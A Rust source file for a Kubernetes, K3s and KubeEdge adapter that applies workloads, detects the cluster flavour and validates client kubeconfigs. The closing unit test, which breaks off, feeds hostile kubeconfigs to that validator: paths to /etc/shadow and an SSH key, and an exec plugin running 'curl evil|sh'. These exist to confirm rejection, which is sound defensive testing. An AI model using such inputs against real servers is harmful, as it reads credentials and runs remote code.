//! The Kubernetes adapter, for plain Kubernetes, K3s and KubeEdge clusters (kube-rs).
//!
//! A workload becomes the objects [`manifests`] builds, written with server-side apply under one
//! field manager; the anchor ConfigMap owns the rest, so deleting it lets the garbage collector
//! finish what the explicit deletes start. The flavour is detected from the nodes unless
//! configured: edge nodes (`node-role.kubernetes.io/edge`) make a KubeEdge cluster, K3s
//! annotations or versions a K3s one. K3s installs workloads that come with a Helm chart through
//! a HelmChart object; KubeEdge pins workloads to edge nodes and binds requested devices through
//! Device objects. Status is observed through watches.

pub mod manifests;
#[cfg(feature = "test-support")]
pub mod testing;

use std::path::PathBuf;
use std::time::Duration;

use futures::future::BoxFuture;
use futures::{StreamExt, TryStreamExt};
use k8s_openapi::api::apps::v1::{Deployment, StatefulSet};
use k8s_openapi::api::core::v1::{ConfigMap, Node, Pod};
use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
use kube::api::{
    ApiResource, DeleteParams, DynamicObject, GroupVersionKind, ListParams, Patch, PatchParams,
};
use kube::config::{KubeConfigOptions, Kubeconfig};
use kube::runtime::{WatchStreamExt, watcher};
use kube::{Api, Client};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use tokio::sync::OnceCell;

use crate::{Capacity, Vim, VimError, Workload, WorkloadPhase, WorkloadStatus};
use manifests::{
    EDGE_NODE_LABEL, FIELD_MANAGER, GPU_RESOURCE, INSTANCE_LABEL, KIND_ANNOTATION, MANAGED_BY,
    MANAGED_BY_LABEL, NODE_ANNOTATION, Target, WorkloadKind,
};

/// The kind of cluster behind a connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "camelCase")]
pub enum Flavour {
    /// Upstream Kubernetes.
    Kubernetes,
    /// K3s: Helm charts are installed through HelmChart objects.
    K3s,
    /// KubeEdge: workloads run on edge nodes and may bind devices.
    KubeEdge,
}

/// A kubeconfig's content: credentials, never shown (`Debug` and serialization of sites for
/// clients leave it out).
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(transparent)]
pub struct KubeconfigContent(pub String);

impl std::fmt::Debug for KubeconfigContent {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("KubeconfigContent(***)")
    }
}

/// Largest kubeconfig content accepted.
pub const MAX_KUBECONFIG_BYTES: usize = 256 << 10;

/// Checks a kubeconfig given by a client (not by the operator's configuration): a valid
/// kubeconfig of at most [`MAX_KUBECONFIG_BYTES`] whose clusters and users carry their
/// credentials inline. File references (`certificate-authority`, `client-certificate`,
/// `client-key`, `tokenFile`) would read the server's files and `exec` or `auth-provider`
/// plugins would run commands on it, so they are refused. Errors never quote the content.
pub fn check_client_kubeconfig(content: &str) -> Result<(), String> {
    if content.len() > MAX_KUBECONFIG_BYTES {
        return Err(format!(
            "kubeconfigContent is larger than {MAX_KUBECONFIG_BYTES} bytes"
        ));
    }
    let config = parse_kubeconfig(content)?;
    for cluster in config.clusters.iter().filter_map(|c| c.cluster.as_ref()) {
        if cluster.certificate_authority.is_some() {
            return Err(
                "kubeconfigContent: clusters give certificate-authority-data, not a file".into(),
            );
        }
    }
    for user in config
        .auth_infos
        .iter()
        .filter_map(|a| a.auth_info.as_ref())
    {
        if user.client_certificate.is_some()
            || user.client_key.is_some()
            || user.token_file.is_some()
        {
            return Err("kubeconfigContent: users give their credentials inline (client-certificate-data, client-key-data or token), not files".into());
        }
        if user.exec.is_some() || user.auth_provider.is_some() {
            return Err("kubeconfigContent: exec and auth-provider plugins are not allowed".into());
        }
    }
    Ok(())
}

/// Parses kubeconfig text; the error names the place, never the content.
fn parse_kubeconfig(content: &str) -> Result<Kubeconfig, String> {
    Kubeconfig::from_yaml(content).map_err(|e| {
        let mut source: Option<&(dyn std::error::Error + 'static)> = Some(&e);
        while let Some(err) = source {
            if let Some(location) = err
                .downcast_ref::<serde_yaml::Error>()
                .and_then(serde_yaml::Error::location)
            {
                return format!(
                    "kubeconfigContent is not a valid kubeconfig (near line {}, column {})",
                    location.line(),
                    location.column()
                );
            }
            source = err.source();
        }
        "kubeconfigContent is not a valid kubeconfig".to_owned()
    })
}

/// How the MEAO reaches a cluster: a kubeconfig file of the operator's configuration, or a
/// kubeconfig's content (given through the inventory API).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct ClusterConnection {
    /// Kubeconfig file (operator configuration only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<String>)]
    pub kubeconfig: Option<PathBuf>,
    /// Kubeconfig content, with inline credentials (write-only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<String>, write_only)]
    pub kubeconfig_content: Option<KubeconfigContent>,
    /// Context in the kubeconfig (its current context when absent).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub context: Option<String>,
    /// Namespace the platform's workloads live in.
    #[serde(default = "default_namespace")]
    pub namespace: String,
    /// The flavour; detected from the cluster when absent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub flavour: Option<Flavour>,
}

fn default_namespace() -> String {
    "mec-apps".into()
}

/// Waiting reasons of a container that will not start without a change.
const FAILING_REASONS: &[&str] = &[
    "ErrImagePull",
    "ImagePullBackOff",
    "InvalidImageName",
    "CrashLoopBackOff",
    "CreateContainerConfigError",
    "CreateContainerError",
];

/// How often [`Vim::settle`] re-reads the status between watch events.
const RECHECK: Duration = Duration::from_secs(2);

struct Connected {
    client: Client,
    flavour: Flavour,
}

/// A VIM over one Kubernetes, K3s or KubeEdge cluster. Connects on first use (and again after
/// a failed first use), so a cluster that is down when the MEAO starts is picked up later.
pub struct KubeVim {
    connection: ClusterConnection,
    connected: OnceCell<Connected>,
}

impl std::fmt::Debug for KubeVim {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("KubeVim")
            .field("connection", &self.connection)
            .finish_non_exhaustive()
    }
}

/// Classifies a kube-rs failure: network failures, 5xx, 429 and conflicts are retryable;
/// quota refusals are a lack of capacity; other refusals are permanent.
pub fn classify(error: kube::Error) -> VimError {
    match error {
        kube::Error::Api(status) => {
            let message = format!("{} ({})", status.message, status.reason);
            match status.code {
                404 => VimError::NotFound(message),
                409 => VimError::Conflict(message),
                403 if status.message.contains("exceeded quota") => {
                    VimError::InsufficientCapacity(message)
                }
                429 | 500..=599 => VimError::Unavailable(message),
                _ => VimError::Rejected(message),
            }
        }
        kube::Error::SerdeError(e) => VimError::Rejected(format!("unexpected response: {e}")),
        kube::Error::BuildRequest(e) => VimError::Rejected(e.to_string()),
        other => VimError::Unavailable(other.to_string()),
    }
}

fn resource(api_version: &str, kind: &str) -> ApiResource {
    let (group, version) = api_version.split_once('/').unwrap_or(("", api_version));
    let plural = format!("{}s", kind.to_ascii_lowercase());
    ApiResource::from_gvk_with_plural(&GroupVersionKind::gvk(group, version, kind), &plural)
}

fn helm_chart_resource() -> ApiResource {
    resource("helm.cattle.io/v1", "HelmChart")
}

fn device_resource() -> ApiResource {
    resource("devices.kubeedge.io/v1beta1", "Device")
}

fn device_model_resource() -> ApiResource {
    resource("devices.kubeedge.io/v1beta1", "DeviceModel")
}

/// Detects the flavour from the nodes: any edge node makes KubeEdge; K3s annotations, provider
/// ids or kubelet versions make K3s.
pub fn detect_flavour(nodes: &[Node]) -> Flavour {
    let labelled = |n: &Node, key: &str| {
        n.metadata
            .labels
            .as_ref()
            .is_some_and(|l| l.contains_key(key))
    };
    if nodes.iter().any(|n| labelled(n, EDGE_NODE_LABEL)) {
        return Flavour::KubeEdge;
    }
    let k3s = nodes.iter().any(|n| {
        let annotated = n
            .metadata
            .annotations
            .as_ref()
            .is_some_and(|a| a.keys().any(|k| k.starts_with("k3s.io/")));
        let provider = n
            .spec
            .as_ref()
            .and_then(|s| s.provider_id.as_deref())
            .is_some_and(|p| p.starts_with("k3s://"));
        let version = n
            .status
            .as_ref()
            .and_then(|s| s.node_info.as_ref())
            .is_some_and(|i| i.kubelet_version.contains("+k3s"));
        annotated || provider || version
    });
    if k3s {
        Flavour::K3s
    } else {
        Flavour::Kubernetes
    }
}

/// Parses a CPU quantity into millicores.
fn millicores(q: &Quantity) -> u64 {
    let s = q.0.trim();
    if let Some(m) = s.strip_suffix('m') {
        return m.parse().unwrap_or(0);
    }
    s.parse::<f64>().map_or(0, |c| (c * 1000.0).round() as u64)
}

/// Parses a memory quantity into MiB.
fn mebibytes(q: &Quantity) -> u64 {
    let s = q.0.trim();
    let units: [(&str, f64); 10] = [
        ("Ki", 1024.0),
        ("Mi", 1024.0 * 1024.0),
        ("Gi", 1024.0 * 1024.0 * 1024.0),
        ("Ti", 1024.0 * 1024.0 * 1024.0 * 1024.0),
        ("k", 1e3),
        ("K", 1e3),
        ("M", 1e6),
        ("G", 1e9),
        ("T", 1e12),
        ("m", 1e-3),
    ];
    let (number, factor) = units
        .iter()
        .find_map(|(suffix, f)| s.strip_suffix(suffix).map(|n| (n, *f)))
        .unwrap_or((s, 1.0));
    number
        .parse::<f64>()
        .map_or(0, |n| (n * factor / (1024.0 * 1024.0)) as u64)
}

fn node_ready(node: &Node) -> bool {
    let schedulable = !node
        .spec
        .as_ref()
        .and_then(|s| s.unschedulable)
        .unwrap_or(false);
    let ready = node
        .status
        .as_ref()
        .and_then(|s| s.conditions.as_ref())
        .is_some_and(|c| c.iter().any(|c| c.type_ == "Ready" && c.status == "True"));
    schedulable && ready
}

fn node_arch(node: &Node) -> Option<&str> {
    node.metadata
        .labels
        .as_ref()
        .and_then(|l| l.get("kubernetes.io/arch"))
        .map(String::as_str)
}

/// Free resources of `nodes` given the `pods` bound to them (allocatable minus requests).
pub fn free_capacity(nodes: &[Node], pods: &[Pod], flavour: Flavour) -> Capacity {
    let mut capacity = Capacity::default();
    for node in nodes.iter().filter(|n| node_ready(n)) {
        let name = node.metadata.name.as_deref().unwrap_or_default();
        let edge = node
            .metadata
            .labels
            .as_ref()
            .is_some_and(|l| l.contains_key(EDGE_NODE_LABEL));
        if flavour == Flavour::KubeEdge && !edge {
            continue;
        }
        let allocatable = node.status.as_ref().and_then(|s| s.allocatable.as_ref());
        let get = |key: &str| allocatable.and_then(|a| a.get(key));
        let (mut cpu, mut mem) = (
            get("cpu").map_or(0, millicores),
            get("memory").map_or(0, mebibytes),
        );
        let mut gpus = get(GPU_RESOURCE).map_or(0, millicores) / 1000;
        for pod in pods
            .iter()
            .filter(|p| p.spec.as_ref().and_then(|s| s.node_name.as_deref()) == Some(name))
        {
            for c in pod.spec.iter().flat_map(|s| &s.containers) {
                let resources = c.resources.as_ref();
                let requests = resources.and_then(|r| r.requests.as_ref());
                let limits = resources.and_then(|r| r.limits.as_ref());
                cpu = cpu.saturating_sub(requests.and_then(|r| r.get("cpu")).map_or(0, millicores));
                mem =
                    mem.saturating_sub(requests.and_then(|r| r.get("memory")).map_or(0, mebibytes));
                let used = limits
                    .and_then(|l| l.get(GPU_RESOURCE))
                    .map_or(0, millicores)
                    / 1000;
                gpus = gpus.saturating_sub(used);
            }
        }
        capacity.cpu_millis += cpu;
        capacity.memory_mib += mem;
        capacity.gpus += u32::try_from(gpus).unwrap_or(u32::MAX);
        if let Some(arch) = node_arch(node) {
            let arch = manifests::site_arch(arch).to_owned();
            if !capacity.architectures.contains(&arch) {
                capacity.architectures.push(arch);
            }
        }
    }
    capacity.architectures.sort();
    let flavour = match flavour {
        Flavour::Kubernetes => "kubernetes",
        Flavour::K3s => "k3s",
        Flavour::KubeEdge => "kubeedge",
    };
    capacity
        .labels
        .insert("mecplane.io/flavour".into(), flavour.into());
    capacity
}

fn condition<'a>(
    conditions: Option<&'a Vec<k8s_openapi::api::apps::v1::DeploymentCondition>>,
    type_: &str,
) -> Option<&'a k8s_openapi::api::apps::v1::DeploymentCondition> {
    conditions?
        .iter()
        .find(|c| c.type_.as_deref() == Some(type_))
}

/// Replica counts of a Deployment or StatefulSet.
struct Counts {
    desired: i32,
    observed: bool,
    ready: i32,
    current: i32,
    updated: i32,
}

impl Counts {
    fn status(&self, failed: Option<String>) -> WorkloadStatus {
        let phase = if let Some(why) = failed {
            WorkloadPhase::Failed(why)
        } else if !self.observed {
            WorkloadPhase::Starting
        } else if self.desired == 0 && self.current == 0 {
            WorkloadPhase::Stopped
        } else if self.desired > 0
            && self.ready >= self.desired
            && self.updated >= self.desired
            && self.current == self.desired
        {
            WorkloadPhase::Running
        } else {
            WorkloadPhase::Starting
        };
        WorkloadStatus {
            phase,
            ready_replicas: u32::try_from(self.ready).unwrap_or(0),
            desired_replicas: u32::try_from(self.desired).unwrap_or(0),
        }
    }
}

/// The status of a Deployment.
pub fn deployment_status(d: &Deployment) -> WorkloadStatus {
    let status = d.status.clone().unwrap_or_default();
    let conditions = status.conditions.as_ref();
    let failed = condition(conditions, "ReplicaFailure")
        .filter(|c| c.status.as_deref() == Some("True"))
        .or_else(|| {
            condition(conditions, "Progressing")
                .filter(|c| c.reason.as_deref() == Some("ProgressDeadlineExceeded"))
        })
        .map(|c| c.message.clone().unwrap_or_default());
    Counts {
        desired: d.spec.replicas.unwrap_or(1),
        observed: status.observed_generation >= d.metadata.generation,
        ready: status.ready_replicas.unwrap_or(0),
        current: status.replicas.unwrap_or(0),
        updated: status.updated_replicas.unwrap_or(0),
    }
    .status(failed)
}

/// The status of a StatefulSet.
pub fn stateful_set_status(s: &StatefulSet) -> WorkloadStatus {
    let status = s.status.clone().unwrap_or_default();
    let desired = s.spec.replicas.unwrap_or(1);
    Counts {
        desired,
        observed: status.observed_generation >= s.metadata.generation,
        ready: status.ready_replicas.unwrap_or(0),
        current: status.replicas,
        updated: status.updated_replicas.unwrap_or(desired),
    }
    .status(None)
}

/// Combines the statuses of a Helm release's controllers (`desired` replicas per the chart).
fn release_status(parts: &[WorkloadStatus], desired: u32) -> WorkloadStatus {
    let ready = parts.iter().map(|p| p.ready_replicas).sum();
    let phase = if let Some(failed) = parts
        .iter()
        .find(|p| matches!(p.phase, WorkloadPhase::Failed(_)))
    {
        failed.phase.clone()
    } else if parts.is_empty() {
        if desired == 0 {
            WorkloadPhase::Stopped
        } else {
            WorkloadPhase::Starting
        }
    } else if parts.iter().all(|p| p.phase == WorkloadPhase::Stopped) {
        WorkloadPhase::Stopped
    } else if parts.iter().all(|p| p.phase == WorkloadPhase::Running) {
        WorkloadPhase::Running
    } else {
        WorkloadPhase::Starting
    };
    WorkloadStatus {
        phase,
        ready_replicas: ready,
        desired_replicas: desired,
    }
}

/// Why a pod of the workload cannot start, if it cannot.
fn pod_failure(pods: &[Pod]) -> Option<String> {
    pods.iter().find_map(|pod| {
        let statuses = pod.status.as_ref()?.container_statuses.as_ref()?;
        statuses.iter().find_map(|c| {
            let waiting = c.state.as_ref()?.waiting.as_ref()?;
            let reason = waiting.reason.as_deref()?;
            FAILING_REASONS.contains(&reason).then(|| {
                format!(
                    "pod {}: container {}: {reason}: {}",
                    pod.metadata.name.as_deref().unwrap_or_default(),
                    c.name,
                    waiting.message.as_deref().unwrap_or_default()
                )
            })
        })
    })
}

impl KubeVim {
    /// An adapter for the cluster behind `connection` (nothing is contacted yet).
    pub fn new(connection: ClusterConnection) -> Self {
        Self {
            connection,
            connected: OnceCell::new(),
        }
    }

    async fn connected(&self) -> Result<&Connected, VimError> {
        self.connected
            .get_or_try_init(|| async {
                // what went wrong with a kubeconfig is logged; the site's error says only that
                let kubeconfig = match (&self.connection.kubeconfig, &self.connection.kubeconfig_content) {
                    (_, Some(content)) => parse_kubeconfig(&content.0).map_err(VimError::Rejected)?,
                    (Some(path), None) => Kubeconfig::read_from(path).map_err(|e| {
                        tracing::warn!(kubeconfig = %path.display(), error = %e, "unusable kubeconfig file");
                        VimError::Rejected("the configured kubeconfig file cannot be read".into())
                    })?,
                    (None, None) => {
                        return Err(VimError::Rejected("the site has no kubeconfig".into()));
                    }
                };
                let options = KubeConfigOptions {
                    context: self.connection.context.clone(),
                    ..KubeConfigOptions::default()
                };
                let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &options)
                    .await
                    .map_err(|e| {
                        tracing::warn!(error = %e, "kubeconfig unusable");
                        VimError::Rejected(
                            "the kubeconfig has no usable context, cluster or user".into(),
                        )
                    })?;
                config.connect_timeout = Some(Duration::from_secs(5));
                config.read_timeout = Some(Duration::from_secs(60));
                config.default_namespace = self.connection.namespace.clone();
                let client = Client::try_from(config).map_err(classify)?;
                let flavour = match self.connection.flavour {
                    Some(f) => f,
                    None => {
                        let nodes = Api::<Node>::all(client.clone())
                            .list(&ListParams::default())
                            .await
                            .map_err(classify)?;
                        detect_flavour(&nodes.items)
                    }
                };
                tracing::info!(namespace = %self.connection.namespace, ?flavour, "connected to cluster");
                Ok(Connected { client, flavour })
            })
            .await
    }

    /// The detected (or configured) flavour of the cluster.
    pub async fn flavour(&self) -> Result<Flavour, VimError> {
        Ok(self.connected().await?.flavour)
    }

    fn ns(&self) -> &str {
        &self.connection.namespace
    }

    fn dynamic(&self, client: &Client, ar: &ApiResource) -> Api<DynamicObject> {
        Api::namespaced_with(client.clone(), self.ns(), ar)
    }

    async fn apply_object(
        &self,
        client: &Client,
        object: Value,
    ) -> Result<DynamicObject, VimError> {
        let api_version = object["apiVersion"].as_str().unwrap_or_default();
        let kind = object["kind"].as_str().unwrap_or_default();
        let name = object["metadata"]["name"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let api = self.dynamic(client, &resource(api_version, kind));
        let params = PatchParams::apply(FIELD_MANAGER).force();
        api.patch(&name, &params, &Patch::Apply(&object))
            .await
            .map_err(classify)
    }

    /// The edge node a workload with devices is pinned to: the one chosen before, else the
    /// first ready edge node of the right architecture.
    async fn edge_node(&self, client: &Client, workload: &Workload) -> Result<String, VimError> {
        let anchors: Api<ConfigMap> = Api::namespaced(client.clone(), self.ns());
        if let Some(node) = anchors
            .get_opt(&workload.name)
            .await
            .map_err(classify)?
            .and_then(|cm| cm.metadata.annotations?.remove(NODE_ANNOTATION))
        {
            return Ok(node);
        }
        let nodes = Api::<Node>::all(client.clone())
            .list(&ListParams::default().labels(EDGE_NODE_LABEL))
            .await
            .map_err(classify)?;
        let arch = workload.architecture.as_deref().map(manifests::kube_arch);
        let mut candidates: Vec<String> = nodes
            .items
            .iter()
            .filter(|n| node_ready(n) && arch.is_none_or(|a| node_arch(n) == Some(a)))
            .filter_map(|n| n.metadata.name.clone())
            .collect();
        candidates.sort();
        candidates.into_iter().next().ok_or_else(|| {
            VimError::InsufficientCapacity("no ready edge node for the workload's devices".into())
        })
    }

    async fn check_device_models(
        &self,
        client: &Client,
        workload: &Workload,
    ) -> Result<(), VimError> {
        let models = self.dynamic(client, &device_model_resource());
        for device in &workload.devices {
            if models
                .get_opt(&device.model)
                .await
                .map_err(classify)?
                .is_none()
            {
                return Err(VimError::Rejected(format!(
                    "device model {} (device {}) does not exist in namespace {}",
                    device.model,
                    device.name,
                    self.ns()
                )));
            }
        }
        Ok(())
    }

    async fn ensure_namespace(&self, client: &Client) -> Result<(), VimError> {
        let api: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(client.clone());
        let ns = json!({
            "apiVersion": "v1",
            "kind": "Namespace",
            "metadata": {"name": self.ns(), "labels": {MANAGED_BY_LABEL: MANAGED_BY}},
        });
        api.patch(
            self.ns(),
            &PatchParams::apply(FIELD_MANAGER),
            &Patch::Apply(&ns),
        )
        .await
        .map_err(classify)?;
        Ok(())
    }

    async fn kind_of(&self, client: &Client, name: &str) -> Result<Option<WorkloadKind>, VimError> {
        let anchors: Api<ConfigMap> = Api::namespaced(client.clone(), self.ns());
        let Some(anchor) = anchors.get_opt(name).await.map_err(classify)? else {
            return Ok(None);
        };
        let kind = anchor
            .metadata
            .annotations
            .as_ref()
            .and_then(|a| a.get(KIND_ANNOTATION))
            .and_then(|k| WorkloadKind::parse(k))
            .unwrap_or(WorkloadKind::Deployment);
        Ok(Some(kind))
    }

    async fn pods_failure(&self, client: &Client, name: &str) -> Result<Option<String>, VimError> {
        let pods: Api<Pod> = Api::namespaced(client.clone(), self.ns());
        let list = pods
            .list(&ListParams::default().labels(&format!("{INSTANCE_LABEL}={name}")))
            .await
            .map_err(classify)?;
        Ok(pod_failure(&list.items))
    }

    async fn release_status(
        &self,
        client: &Client,
        name: &str,
    ) -> Result<WorkloadStatus, VimError> {
        let chart = self
            .dynamic(client, &helm_chart_resource())
            .get_opt(name)
            .await
            .map_err(classify)?;
        let desired = chart
            .as_ref()
            .and_then(|c| c.data["spec"]["set"]["replicaCount"].as_u64())
            .unwrap_or(1);
        let chart_failed = chart.as_ref().and_then(|c| {
            c.data["status"]["conditions"]
                .as_array()?
                .iter()
                .find(|c| c["type"] == "Failed" && c["status"] == "True")
                .map(|c| {
                    c["message"]
                        .as_str()
                        .unwrap_or("helm install failed")
                        .to_owned()
                })
        });
        if let Some(why) = chart_failed {
            return Ok(WorkloadStatus {
                phase: WorkloadPhase::Failed(why),
                ready_replicas: 0,
                desired_replicas: u32::try_from(desired).unwrap_or(0),
            });
        }
        let selector = ListParams::default().labels(&format!("{INSTANCE_LABEL}={name}"));
        let deployments: Api<Deployment> = Api::namespaced(client.clone(), self.ns());
        let sets: Api<StatefulSet> = Api::namespaced(client.clone(), self.ns());
        let mut parts: Vec<WorkloadStatus> = deployments
            .list(&selector)
            .await
            .map_err(classify)?
            .items
            .iter()
            .map(deployment_status)
            .collect();
        parts.extend(
            sets.list(&selector)
                .await
                .map_err(classify)?
                .items
                .iter()
                .map(stateful_set_status),
        );
        Ok(release_status(&parts, u32::try_from(desired).unwrap_or(0)))
    }

    async fn current_status(&self, name: &str) -> Result<Option<WorkloadStatus>, VimError> {
        let client = &self.connected().await?.client;
        let Some(kind) = self.kind_of(client, name).await? else {
            return Ok(None);
        };
        let mut status = match kind {
            WorkloadKind::Deployment => {
                let api: Api<Deployment> = Api::namespaced(client.clone(), self.ns());
                api.get_opt(name)
                    .await
                    .map_err(classify)?
                    .map(|d| deployment_status(&d))
            }
            WorkloadKind::StatefulSet => {
                let api: Api<StatefulSet> = Api::namespaced(client.clone(), self.ns());
                api.get_opt(name)
                    .await
                    .map_err(classify)?
                    .map(|s| stateful_set_status(&s))
            }
            WorkloadKind::HelmChart => Some(self.release_status(client, name).await?),
        };
        // The anchor exists but its controller does not (yet): still being applied.
        let mut status = status.take().unwrap_or(WorkloadStatus {
            phase: WorkloadPhase::Starting,
            ready_replicas: 0,
            desired_replicas: 0,
        });
        if status.phase == WorkloadPhase::Starting
            && let Some(why) = self.pods_failure(client, name).await?
        {
            status.phase = WorkloadPhase::Failed(why);
        }
        Ok(Some(status))
    }

    async fn delete_all(&self, client: &Client, name: &str) -> Result<(), VimError> {
        let selector = ListParams::default().labels(&format!("{INSTANCE_LABEL}={name}"));
        let background = DeleteParams::background();
        let kinds = [
            helm_chart_resource(),
            device_resource(),
            ApiResource::erase::<Deployment>(&()),
            ApiResource::erase::<StatefulSet>(&()),
            ApiResource::erase::<k8s_openapi::api::core::v1::Service>(&()),
            ApiResource::erase::<k8s_openapi::api::core::v1::Secret>(&()),
            ApiResource::erase::<ConfigMap>(&()),
        ];
        for ar in &kinds {
            match self
                .dynamic(client, ar)
                .delete_collection(&background, &selector)
                .await
            {
                Ok(_) => {}
                // The kind is not served by this cluster (no K3s or KubeEdge CRDs).
                Err(kube::Error::Api(s)) if s.code == 404 => {}
                Err(e) => return Err(classify(e)),
            }
        }
        Ok(())
    }
}

impl Vim for KubeVim {
    fn capacity(&self) -> BoxFuture<'_, Result<Capacity, VimError>> {
        Box::pin(async move {
            let connected = self.connected().await?;
            let nodes = Api::<Node>::all(connected.client.clone())
                .list(&ListParams::default())
                .await
                .map_err(classify)?;
            let pods = Api::<Pod>::all(connected.client.clone())
                .list(&ListParams::default().fields("status.phase!=Succeeded,status.phase!=Failed"))
                .await
                .map_err(classify)?;
            Ok(free_capacity(&nodes.items, &pods.items, connected.flavour))
        })
    }

    fn apply<'a>(&'a self, workload: &'a Workload) -> BoxFuture<'a, Result<(), VimError>> {
        Box::pin(async move {
            let connected = self.connected().await?;
            let client = &connected.client;
            self.ensure_namespace(client).await?;
            let node = if connected.flavour == Flavour::KubeEdge && !workload.devices.is_empty() {
                self.check_device_models(client, workload).await?;
                Some(self.edge_node(client, workload).await?)
            } else {
                None
            };
            let target = Target {
                namespace: self.ns(),
                flavour: connected.flavour,
                node: node.as_deref(),
            };
            let anchor = self
                .apply_object(client, manifests::anchor(workload, &target))
                .await?;
            let uid = anchor.metadata.uid.unwrap_or_default();
            for object in manifests::dependents(workload, &target, &uid) {
                self.apply_object(client, object).await?;
            }
            tracing::info!(workload = %workload.name, flavour = ?connected.flavour, node = ?node, "applied");
            Ok(())
        })
    }

    fn status<'a>(
        &'a self,
        name: &'a str,
    ) -> BoxFuture<'a, Result<Option<WorkloadStatus>, VimError>> {
        Box::pin(self.current_status(name))
    }

    fn scale<'a>(&'a self, name: &'a str, replicas: u32) -> BoxFuture<'a, Result<(), VimError>> {
        Box::pin(async move {
            let client = &self.connected().await?.client;
            let Some(kind) = self.kind_of(client, name).await? else {
                return Err(VimError::NotFound(name.to_owned()));
            };
            let patch = match kind {
                WorkloadKind::HelmChart => json!({"spec": {"set": {"replicaCount": replicas}}}),
                _ => json!({"spec": {"replicas": replicas}}),
            };
            let params = PatchParams::default();
            let result = match kind {
                WorkloadKind::Deployment => {
                    Api::<Deployment>::namespaced(client.clone(), self.ns())
                        .patch_scale(name, &params, &Patch::Merge(&patch))
                        .await
                        .map(drop)
                }
                WorkloadKind::StatefulSet => {
                    Api::<StatefulSet>::namespaced(client.clone(), self.ns())
                        .patch_scale(name, &params, &Patch::Merge(&patch))
                        .await
                        .map(drop)
                }
                WorkloadKind::HelmChart => self
                    .dynamic(client, &helm_chart_resource())
                    .patch(name, &params, &Patch::Merge(&patch))
                    .await
                    .map(drop),
            };
            result.map_err(classify)
        })
    }

    fn delete<'a>(&'a self, name: &'a str) -> BoxFuture<'a, Result<(), VimError>> {
        Box::pin(async move {
            let client = &self.connected().await?.client;
            self.delete_all(client, name).await
        })
    }

    fn list_owned(&self) -> BoxFuture<'_, Result<Vec<String>, VimError>> {
        Box::pin(async move {
            let client = &self.connected().await?.client;
            let anchors: Api<ConfigMap> = Api::namespaced(client.clone(), self.ns());
            let list = anchors
                .list(&ListParams::default().labels(&format!("{MANAGED_BY_LABEL}={MANAGED_BY}")))
                .await
                .map_err(classify)?;
            let mut names: Vec<String> = list
                .items
                .into_iter()
                .filter_map(|c| c.metadata.name)
                .collect();
            names.sort();
            Ok(names)
        })
    }

    fn settle<'a>(
        &'a self,
        name: &'a str,
        timeout: Duration,
    ) -> BoxFuture<'a, Result<Option<WorkloadStatus>, VimError>> {
        Box::pin(async move {
            let deadline = tokio::time::Instant::now() + timeout;
            let status = self.current_status(name).await?;
            if status.as_ref().is_none_or(WorkloadStatus::settled) {
                return Ok(status);
            }
            let client = self.connected().await?.client.clone();
            // Any change of the workload's controllers or pods may settle it.
            let config = watcher::Config::default().labels(&format!("{INSTANCE_LABEL}={name}"));
            let changes = futures::stream::select_all([
                watcher(
                    Api::<Deployment>::namespaced(client.clone(), self.ns()),
                    config.clone(),
                )
                .default_backoff()
                .map_ok(drop)
                .boxed(),
                watcher(
                    Api::<StatefulSet>::namespaced(client.clone(), self.ns()),
                    config.clone(),
                )
                .default_backoff()
                .map_ok(drop)
                .boxed(),
                watcher(Api::<Pod>::namespaced(client, self.ns()), config)
                    .default_backoff()
                    .map_ok(drop)
                    .boxed(),
            ]);
            let mut changes = std::pin::pin!(changes);
            loop {
                let now = tokio::time::Instant::now();
                if now >= deadline {
                    return self.current_status(name).await;
                }
                // Re-check now and then too: a watch in back-off after an outage is slow to
                // report.
                match tokio::time::timeout((deadline - now).min(RECHECK), changes.next()).await {
                    Ok(None) => return self.current_status(name).await,
                    Ok(Some(Err(e))) => {
                        tracing::debug!(workload = name, error = %e, "watch interrupted");
                    }
                    Err(_) | Ok(Some(Ok(()))) => match self.current_status(name).await {
                        Ok(status) if status.as_ref().is_none_or(WorkloadStatus::settled) => {
                            return Ok(status);
                        }
                        Ok(_) => {}
                        Err(e) if e.retryable() => {
                            tracing::debug!(workload = name, error = %e, "status unavailable");
                        }
                        Err(e) => return Err(e),
                    },
                }
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kubeconfig(cluster: &str, user: &str) -> String {
        format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\n\
             clusters: [{{name: k, cluster: {{server: \"https://10.0.0.1:6443\", {cluster}}}}}]\n\
             users: [{{name: u, user: {{{user}}}}}]\n\
             contexts: [{{name: c, context: {{cluster: k, user: u}}}}]\n"
        )
    }

    #[test]
    fn client_kubeconfigs_carry_their_credentials_inline() {
        let inline = kubeconfig("certificate-authority-data: QUJD", "token: t0k3n");
        assert_eq!(check_client_kubeconfig(&inline), Ok(()));
        for (bad, why) in [
            (
                kubeconfig("certificate-authority: /etc/shadow", "token: t"),
                "certificate-authority-data",
            ),
            (
                kubeconfig(
                    "insecure-skip-tls-verify: true",
                    "tokenFile: /var/run/secrets/x",
                ),
                "inline",
            ),
            (
                kubeconfig(
                    "insecure-skip-tls-verify: true",
                    "client-key: /root/.ssh/id_rsa",
                ),
                "inline",
            ),
            (
                kubeconfig(
                    "insecure-skip-tls-verify: true",
                    "exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil|sh']}",
                ),
                "plugins",
            ),
        ] {
            let e = check_client_kubeconfig(&bad).unwrap_err();
            assert!(e.contains(why), "{why}: {e}");
        }
